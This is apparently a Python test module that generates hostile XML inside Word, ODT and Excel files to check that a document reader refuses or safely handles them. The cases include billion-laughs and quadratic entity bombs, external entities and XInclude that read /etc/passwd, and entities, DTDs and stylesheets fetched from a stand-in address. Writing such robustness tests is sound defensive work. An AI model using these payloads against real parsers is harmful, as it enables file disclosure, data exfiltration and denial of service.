"""XML that grows, nests, reaches out or breaks, within the parts of office files."""

from __future__ import annotations

from collections.abc import Callable
from functools import partial

from tests.readers.hostile.archives import archive, packed, repeated
from tests.readers.hostile.case import CLEAN, LONG, PHONE, POST, Case, Outcome, case
from tests.readers.hostile.documents import (
    HEAD,
    SHEET_SPACES,
    document,
    docx,
    docx_of,
    odt,
    para,
    rows,
    sheet,
    sheet_part,
    strings_part,
    word_members,
    writer,
    xlsx,
)

_LAUGHS = '<!ENTITY a0 "lol">' + "".join(
    f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, 9)
)
_QUADRATIC = f'<!ENTITY q "{"q" * 50_000}">'
_FILE = '<!ENTITY f SYSTEM "file:///etc/passwd">'
_NET = '<!ENTITY n SYSTEM "http://192.0.2.1/collect">'
_PARAMETER = '<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;'
_PARAMETER_LAUGHS = "<!ENTITY % b0 'lol'>" + "".join(
    f"<!ENTITY % b{level} '{f'%b{level - 1};' * 10}'>" for level in range(1, 9)
)
_RECURSIVE = '<!ENTITY x "&y;"><!ENTITY y "&x;">'
_PHONE = f'<!ENTITY phone "{PHONE}">'


def _declared(xml: str, root: str, declarations: str) -> str:
    """The XML with a document type of the declarations."""
    start = f"<{root} "
    return xml.replace(start, f"<!DOCTYPE {root} [{declarations}]>\n{start}", 1)


def _word(declarations: str, text: str) -> bytes:
    return docx(_declared(document(para(f"{text} {POST}")), "w:document", declarations))


def _odt(declarations: str, text: str) -> bytes:
    xml = writer(f"<text:p>{text} {POST}</text:p>")
    return odt(_declared(xml, "office:document-content", declarations))


def _strings(declarations: str, text: str) -> bytes:
    xml = f"{HEAD}<sst {SHEET_SPACES}><si><t>text</t></si><si><t>{text} {POST}</t></si></sst>"
    cells = '<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2" t="s"><v>1</v></c></row>'
    return xlsx(sheet_part(sheet(cells)), strings_part(_declared(xml, "sst", declarations)))


def _plain_type() -> bytes:
    xml = document(para(POST)).replace("<w:document ", "<!DOCTYPE document>\n<w:document ", 1)
    return docx(xml)


def _public_type() -> bytes:
    kind = '<!DOCTYPE w:document PUBLIC "-//EXAMPLE//DTD//EN" "http://192.0.2.1/word.dtd">\n<w:document '
    return docx(document(para(POST)).replace("<w:document ", kind, 1))


def _encoded(encoding: str, declarations: str = "") -> bytes:
    xml = document(para(POST)).replace('encoding="UTF-8"', f'encoding="{encoding}"')
    if declarations:
        xml = _declared(xml, "w:document", declarations)
    return docx(xml.encode(encoding))


def _claims(encoding: str) -> bytes:
    return docx(document(para(POST)).replace('encoding="UTF-8"', f'encoding="{encoding}"'))


def _nested(opening: str, closing: str, depth: int, inner: str) -> bytes:
    return docx_of(opening * depth + inner + closing * depth)


def _nested_cells() -> bytes:
    return _nested("<w:tbl><w:tr><w:tc>", "<w:p/></w:tc></w:tr></w:tbl>", 10_000, para(POST))


def _many_attributes() -> bytes:
    attributes = " ".join(f'a{at}=""' for at in range(250_000))
    return docx_of(f"<w:p {attributes}/>" + para(POST))


def _many_elements_with_attributes() -> bytes:
    start, _, end = document("").partition("<w:sectPr/>")
    chunk = b'<w:p w:rsidR="0" w:rsidRPr="1" w:rsidP="2" w:rsidRDefault="3" w:rsidDel="4"/>' * 1000
    return docx(repeated("word/document.xml", (start + para(POST)).encode(), chunk, 1000, end.encode()))


def _many_namespaces() -> bytes:
    spaces = " ".join(f'xmlns:n{at}="urn:{at}"' for at in range(100_000))
    return docx_of(f"<w:p {spaces}/>" + para(POST))


def _many_comments() -> bytes:
    return docx_of("<!---->" * 1_000_000 + para(POST))


def _long_name() -> bytes:
    name = "w:" + "n" * 2_000_000
    return docx_of(f"<{name}/>" + para(POST))


def _huge_text() -> bytes:
    start, _, end = document(para("@")).partition("@")
    chunk = b"The fete is on Saturday. " * 4000
    return docx(repeated("word/document.xml", start.encode(), chunk, 300, (POST + end).encode()))


def _huge_attribute() -> bytes:
    return docx_of(f'<w:p w:rsidR="{"0" * LONG}"/>' + para(POST))


def _split(middle: str) -> bytes:
    first, last = PHONE.split(" ")
    return docx_of(para(f"The fete is on Saturday; ring {first} {middle}{last} to help."))


def _broken(xml: Callable[[str], str]) -> bytes:
    return docx(xml(document(para(POST) + para(CLEAN))))


def _wrong_space(old: str, new: str) -> bytes:
    return docx(document(para(POST)).replace(old, new))


def _default_space() -> bytes:
    xml = document(para(POST)).replace("xmlns:w=", "xmlns=")
    return docx(xml.replace("<w:", "<").replace("</w:", "</").replace("<sectPr/>", ""))


def _other_prefix() -> bytes:
    xml = document(para(POST)).replace("xmlns:w=", "xmlns:ns0=")
    return docx(xml.replace("<w:", "<ns0:").replace("</w:", "</ns0:"))


def _broken_relations() -> bytes:
    types, _, *others = word_members(document(para(POST)))
    return archive([types, packed("_rels/.rels", "<Relationships"), *others])


def _bombs() -> list[Case]:
    """The same declarations in the parts of three formats."""
    told: list[tuple[str, str, str, Outcome, str]] = [
        ("billion-laughs", _LAUGHS, "&a8;", "refused", "entities that grow to 300 MB"),
        ("quadratic", _QUADRATIC, "&q;" * 20_000, "refused", "one long entity, named 20,000 times"),
        ("external-file", _FILE, "&f;", "refused", "an entity that would read a file of the system"),
        ("external-address", _NET, "&n;", "refused", "an entity that would call an address"),
        ("parameter-entity", _PARAMETER, "", "refused", "declarations that would be fetched"),
        ("parameter-laughs", _PARAMETER_LAUGHS, "", "refused", "parameter entities that grow"),
        ("recursive-entity", _RECURSIVE, "&x;", "refused", "entities that contain each other"),
        ("harmless-entity", _PHONE, "&phone;", "either", "an entity that holds the number"),
    ]
    makers = (("docx", _word), ("odt", _odt), ("xlsx", _strings))
    return [
        case(f"xml-{name}-{ending}", f".{ending}", partial(maker, declarations, text), outcome, why)
        for name, declarations, text, outcome, why in told
        for ending, maker in makers
    ]


_DEEP = ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>")
_SPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"

CASES: tuple[Case, ...] = (
    *_bombs(),
    case("xml-plain-doctype", ".docx", _plain_type, "either", "a document type that declares nothing"),
    case("xml-public-doctype", ".docx", _public_type, "either", "a document type at an address"),
    case("xml-utf16", ".docx", partial(_encoded, "UTF-16"), "read", "a main part in UTF-16"),
    case(
        "xml-utf16-doctype",
        ".docx",
        partial(_encoded, "UTF-16", _LAUGHS),
        "refused",
        "a document type that a search for ASCII bytes would not see",
    ),
    case("xml-utf7-claimed", ".docx", partial(_claims, "UTF-7"), "either", "says it is UTF-7"),
    case(
        "xml-unknown-encoding",
        ".docx",
        partial(_claims, "x-klingon"),
        "either",
        "an encoding that nobody knows",
    ),
    case("xml-wrong-encoding", ".docx", partial(_claims, "UTF-16"), "either", "says it is UTF-16 and is not"),
    case(
        "xml-not-utf8",
        ".docx",
        lambda: docx(document(para("Caf\xe9 " + POST)).encode("latin-1")),
        "either",
        "bytes that are not UTF-8",
    ),
    case(
        "xml-deep-controls", ".docx", partial(_nested, *_DEEP, 50_000, para(POST)), "either", "100,000 levels"
    ),
    case("xml-deep-tables", ".docx", _nested_cells, "either", "tables in tables, 10,000 deep"),
    case(
        "xml-deep-unclosed",
        ".docx",
        lambda: docx(document(para(POST)).partition("<w:sectPr/>")[0] + "<w:p>" * 1_000_000),
        "refused",
        "a million elements that are never closed",
    ),
    case(
        "xml-deep-odt",
        ".odt",
        lambda: odt(
            writer("<text:p>" + "<text:span>" * 100_000 + POST + "</text:span>" * 100_000 + "</text:p>")
        ),
        "either",
        "spans in spans, 100,000 deep",
    ),
    case("xml-many-attributes", ".docx", _many_attributes, "either", "an element of 250,000 attributes"),
    case(
        "xml-million-elements",
        ".docx",
        _many_elements_with_attributes,
        "either",
        "5,000,000 attributes in all",
    ),
    case("xml-many-namespaces", ".docx", _many_namespaces, "either", "100,000 namespaces"),
    case("xml-many-comments", ".docx", _many_comments, "either", "a million comments"),
    case("xml-long-name", ".docx", _long_name, "either", "an element with a name of 2 MB"),
    case("xml-huge-text", ".docx", _huge_text, "either", "a text of 30 MB in one run"),
    case("xml-huge-attribute", ".docx", _huge_attribute, "either", "an attribute of 8 MB"),
    case(
        "xml-comment-in-number", ".docx", partial(_split, "<!-- 1 -->"), "read", "a comment within the number"
    ),
    case(
        "xml-instruction-in-number",
        ".docx",
        partial(_split, "<?x y?>"),
        "read",
        "an instruction within the number",
    ),
    case(
        "xml-cdata",
        ".docx",
        lambda: docx_of(para(f"<![CDATA[Sun & sea: {POST}]]>")),
        "read",
        "the text in a CDATA section",
    ),
    case(
        "xml-character-references",
        ".docx",
        lambda: docx_of(para("Ring " + "".join(f"&#{ord(sign)};" for sign in PHONE))),
        "read",
        "every character written as a number",
    ),
    case("xml-default-namespace", ".docx", _default_space, "read", "Word's namespace without a prefix"),
    case("xml-other-prefix", ".docx", _other_prefix, "read", "Word's namespace under another prefix"),
    case(
        "xml-wrong-namespace",
        ".docx",
        partial(_wrong_space, _SPACE, "urn:x"),
        "either",
        "a namespace not Word's",
    ),
    case(
        "xml-strict-namespace",
        ".docx",
        partial(_wrong_space, _SPACE, _STRICT),
        "either",
        "Word's strict form",
    ),
    case(
        "xml-cut-off",
        ".docx",
        lambda: _broken(lambda xml: xml[: xml.index(CLEAN)]),
        "refused",
        "the main part ends in the middle",
    ),
    case(
        "xml-mismatched-tags",
        ".docx",
        lambda: _broken(lambda xml: xml.replace("</w:r>", "</w:x>", 1)),
        "refused",
        "tags that do not match",
    ),
    case(
        "xml-control-characters",
        ".docx",
        lambda: _broken(lambda xml: xml.replace("fete", "fe\x01te")),
        "either",
        "characters that XML forbids",
    ),
    case(
        "xml-bad-reference",
        ".docx",
        lambda: _broken(lambda xml: xml.replace("fete", "&#0;&#xD800;")),
        "either",
        "references to characters that cannot be",
    ),
    case(
        "xml-unknown-entity", ".docx", lambda: docx_of(para("&nbsp;" + POST)), "either", "an entity of HTML"
    ),
    case("xml-two-roots", ".docx", lambda: _broken(lambda xml: xml + "<x/>"), "refused", "two roots"),
    case("xml-empty-part", ".docx", lambda: docx(b""), "refused", "an empty main part", phone=False),
    case(
        "xml-spaces-first",
        ".docx",
        lambda: _broken(lambda xml: "\n  " + xml),
        "either",
        "blanks before the head",
    ),
    case(
        "xml-other-root",
        ".docx",
        lambda: docx(f"{HEAD}<html>{POST}</html>"),
        "either",
        "no document of Word's",
    ),
    case("xml-broken-relations", ".docx", _broken_relations, "either", "relationships that cannot be parsed"),
    case(
        "xml-include",
        ".docx",
        lambda: docx_of(
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
            + para(POST)
        ),
        "read",
        "an inclusion of a file of the system",
    ),
    case(
        "xml-stylesheet",
        ".docx",
        lambda: _broken(
            lambda xml: xml.replace(
                "<w:document", '<?xml-stylesheet href="http://192.0.2.1/x.xsl"?><w:document', 1
            )
        ),
        "read",
        "a style sheet at an address",
    ),
    case(
        "xml-broken-shared-strings",
        ".xlsx",
        lambda: xlsx(sheet_part(sheet(rows("text", POST))), strings_part("<sst><si>")),
        "either",
        "a table of texts that is cut off",
    ),
)
